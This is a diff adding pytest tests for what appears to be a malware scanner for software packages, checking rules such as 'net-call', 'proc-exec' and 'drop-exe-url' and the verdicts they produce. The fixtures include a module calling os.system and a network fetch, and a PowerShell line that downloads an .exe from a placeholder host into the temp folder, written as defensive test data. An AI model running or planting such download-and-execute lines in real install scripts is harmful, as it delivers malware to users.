@@ -90,3 +90,24 @@ def test_a_pth_among_the_tests_is_a_fixture(tmp_path):
     shipped = _scan(tmp_path, "b", {"src/x.pth": "import placeholder\n"})
     assert fixture.verdict == "clean" and "pth-exec" in rules_of(fixture)
     assert shipped.verdict == "malicious"
+
+
+def test_a_module_with_one_broken_line_is_still_read_for_its_calls(tmp_path):
+    # A quote inside a quoted string: the module does not parse as written.
+    body = ("import os, requests\nNOTE = 'a 'broken' note'\n"
+            "requests.get('https://example.invalid/placeholder')\nos.system('placeholder')\n")
+    broken = _scan(tmp_path, "a", {"demo/__init__.py": body})
+    python2 = _scan(tmp_path, "b", {"demo/__init__.py": "import os\n"
+                                    + "print 'placeholder'\n" * 6 + "os.system('placeholder')\n"})
+    assert {"net-call", "proc-exec", "download-exec"} <= rules_of(broken)
+    assert broken.verdict == "malicious"
+    # More broken lines than a careless edit leaves: not Python 3, matched as text only.
+    assert "proc-exec" not in rules_of(python2) and python2.verdict == "clean"
+
+
+def test_a_script_deep_in_the_package_is_data_one_next_to_setup_is_not(tmp_path):
+    script = "Invoke-WebRequest -Uri https://downloads.placeholder-host.net/placeholder.exe -OutFile $env:TEMP\\p.exe\n"
+    deep = _scan(tmp_path, "a", {"demo/driver/bin/reinstall.ps1": script})
+    top = _scan(tmp_path, "b", {"install.ps1": script})
+    assert "drop-exe-url" in rules_of(deep) and deep.verdict == "clean"
+    assert _weight(top, "drop-exe-url") > _weight(deep, "drop-exe-url")
